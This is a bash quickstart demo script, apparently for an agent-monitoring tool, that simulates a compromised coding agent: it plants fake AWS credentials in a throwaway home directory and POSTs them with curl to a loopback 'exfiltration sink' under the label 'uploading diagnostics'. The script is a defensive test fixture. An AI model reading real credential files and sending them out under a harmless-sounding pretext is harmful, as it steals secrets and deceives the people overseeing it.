#!/usr/bin/env bash
# A short scripted "agent" session for the quickstart: it does what a compromised coding
# agent might do, against throwaway files and a loopback listener only.
set -u
demo=$(mktemp -d /tmp/agentwarden-demo.XXXXXX)
export HOME="$demo/home"
mkdir -p "$HOME/.aws" "$demo/ws"
printf '[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n' > "$HOME/.aws/credentials"
cd "$demo/ws"
# A loopback "exfiltration sink".
node -e 'const s=require("http").createServer((q,r)=>{q.resume();q.on("end",()=>{r.end("ok");s.close()})});s.listen(0,"127.0.0.1",()=>console.log(s.address().port))' > port.txt &
for _ in 1 2 3 4 5 6 7 8 9 10; do [ -s port.txt ] && break; sleep 0.2; done
port=$(cat port.txt)
echo "agent: checking the AWS configuration"
cat "$HOME/.aws/credentials" > /dev/null
echo "agent: 'uploading diagnostics'"
curl -s -m 5 -X POST --data-binary @"$HOME/.aws/credentials" "http://127.0.0.1:$port/collect" > /dev/null || true
echo "agent: writing notes"
echo "AWS credentials present." > SETUP_NOTES.md
bash -c 'echo "$(date) setup done" >> SETUP_NOTES.md'
wait
rm -rf "$demo"
